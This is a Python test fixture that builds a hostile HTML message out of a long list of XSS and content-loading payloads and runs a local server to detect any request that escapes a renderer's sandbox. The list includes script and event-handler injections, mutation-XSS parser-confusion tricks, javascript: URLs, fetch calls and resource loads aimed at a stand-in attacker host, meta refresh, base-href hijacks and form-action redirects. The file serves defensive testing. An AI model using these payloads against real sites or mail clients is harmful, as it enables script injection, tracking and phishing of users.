"""HTML of messages that tries to run, to load, to send, to cover or to leave."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress

# What a script would do: leave a mark in every window that it reaches, and tell another host.
_RUN = "try{{top.ran=1}}catch(e){{}}parent.ran=1;window.ran=1;fetch('{evil}/ran');alert(1)"
FRAGMENTS = (
    # scripts
    "<script>{run}</script>",
    "<script src='{evil}/a.js'></script>",
    "<SCRIPT\n>{run}</SCRIPT >",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<<script>{run}//<</script>",
    '<img src=x onerror="{run}">',
    "<img/src='x'/onerror='{attribute}'//>",
    '<body onload="{run}" onpageshow="{run}" background=\'{evil}/b.png\'>',
    "<svg onload=\"{run}\"><script>{run}</script><image href='{evil}/c.png'/><use href='{evil}/d.svg#x'/></svg>",
    '<svg><animate onbegin="{run}" attributeName=x dur=1s></svg>',
    "<svg><foreignObject><iframe src='{evil}/e'></iframe></foreignObject></svg>",
    '<details open ontoggle="{run}"><summary>x</summary></details>',
    '<input autofocus onfocus="{run}"><video src=\'{evil}/f.mp4\' autoplay onerror="{run}"></video>',
    "<audio src='{evil}/g.mp3' autoplay></audio><marquee onstart=\"{run}\">x</marquee>",
    "<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart=\"{run}\">x</p>",
    # addresses
    "<a href=\"javascript:{run}\" id=j>javascript</a><a href='data:text/html,<script>{attribute}</script>'>data</a>",
    "<iframe src=\"javascript:{run}\"></iframe><iframe src='{evil}/h'></iframe><frame src='{evil}/i'>",
    "<iframe srcdoc=\"<script>{attribute}</script><img src='{evil}/j.png'>\"></iframe>",
    "<object data='{evil}/k.swf'></object><embed src='{evil}/l.swf'><applet code='{evil}/m'></applet>",
    "<object data=\"javascript:{run}\"></object><portal src='{evil}/n'></portal>",
    # loads
    "<img src='{evil}/o.gif'><img srcset='{evil}/p.gif 1x, {evil}/q.gif 2x'><img lowsrc='{evil}/r.gif' dynsrc='{evil}/s'>",
    "<picture><source srcset='{evil}/t.gif'><img src='{evil}/u.gif'></picture><input type=image src='{evil}/v.gif'>",
    "<link rel=stylesheet href='{evil}/w.css'><link rel=preload as=image href='{evil}/x.png'>",
    "<link rel=preconnect href='{evil}'><link rel=prefetch href='{evil}/y'><link rel=icon href='{evil}/z.ico'>",
    "<style>@import '{evil}/aa.css'; @import url({evil}/ab.css); *{{background:url({evil}/ac.png)}}</style>",
    "<style>@font-face{{font-family:x;src:url({evil}/ad.woff)}} p{{font-family:x}}</style><p>font</p>",
    "<p style=\"background:url('{evil}/ae.png')\">x</p><p style='background-image:u\\72l({evil}/af.png)'>x</p>",
    "<p style=\"background:image-set('{evil}/ag.png' 1x)\">x</p><ul style='list-style:url({evil}/ah.png)'><li>x</ul>",
    '<p style="border-image:url({evil}/ai.png) 1;cursor:url({evil}/aj.cur),auto;content:url({evil}/ak.png)">x</p>',
    "<table background='{evil}/al.png'><td background='{evil}/am.png'>x</table><video poster='{evil}/an.png'></video>",
    "<a href='https://a.example' ping='{evil}/ao'>ping</a><bgsound src='{evil}/ap.wav'>",
    # leaving
    "<meta http-equiv=refresh content='0;url={evil}/aq'><meta http-equiv='Content-Security-Policy' content='default-src *'>",
    "<base href='{evil}/'><base target=_top><img src='ar.png'><a href='as'>relative</a>",
    "<form id=f action='{evil}/at' method=post><input name=a value=1><button autofocus>Sign in</button></form>",
    "<button form=f formaction=\"javascript:{run}\">x</button><isindex action='{evil}/au'>",
    "<a href='{evil}/av' target=_top>top</a><a href='{evil}/aw' target=_parent>parent</a><area href='{evil}/ax'>",
    # confusion of parsers
    '<template><img src=x onerror="{run}"></template><noscript><p title="</noscript><img src=x onerror=\'{attribute}\'>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={attribute}&gt;'>",
    "<svg></p><style><a id=\"</style><img src=1 onerror='{attribute}'>\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror='{attribute}' src=1>\">",
    "<title><a title=\"</title><img src=x onerror='{attribute}'>\"></title>",
    "<select><style></select><img src=x onerror='{attribute}'></style></select>",
    "<xmp><p title=\"</xmp><img src=x onerror='{attribute}'>\"></xmp>",
    "<!--><img src=x onerror='{attribute}'>--><!--!><img src=x onerror='{attribute}'>--!>",
    "<![CDATA[<img src=x onerror='{attribute}'>]]><?x <img src=x onerror='{attribute}'>?>",
    "<p title='\"><img src=x onerror=\"{run}\">'>x</p><p title=`><img src=x onerror='{attribute}'>`>x</p>",
    # covering, and names that scripts of the page might ask for
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;background:red;z-index:9'>cover</p>",
    "<a name=body id=body>x</a><img name=documentElement><form name=querySelector></form><p id=letter class=top>x</p>",
    "<p style='width:99999px;height:99999px'>large</p></div></body></html><p>behind the end</p><plaintext>rest",
)


def hostile_html(evil: str) -> str:
    """Return all fragments in one document; `evil` is the address of another host."""
    run = _RUN.format(evil=evil)
    attribute = "".join(f"&#{ord(character)};" for character in run)
    return "\n".join(
        fragment.format(evil=evil, run=run.replace('"', "&quot;"), attribute=attribute)
        for fragment in FRAGMENTS
    )


@asynccontextmanager
async def other_host() -> AsyncIterator[tuple[str, list[str]]]:
    """Run another host; yield its address, and what reaches it: even a connection without a request."""
    reached: list[str] = []
    writers: list[asyncio.StreamWriter] = []

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        reached.append("connected")
        writers.append(writer)
        with suppress(asyncio.IncompleteReadError, ConnectionError):
            reached.append((await reader.readuntil(b"\r\n\r\n")).decode())
        writer.write(
            b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Type: text/html\r\nConnection: close\r\n\r\nHi"
        )
        with suppress(ConnectionError):
            await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}", reached
        for writer in writers:  # a browser keeps an unused connection open for a minute
            writer.close()
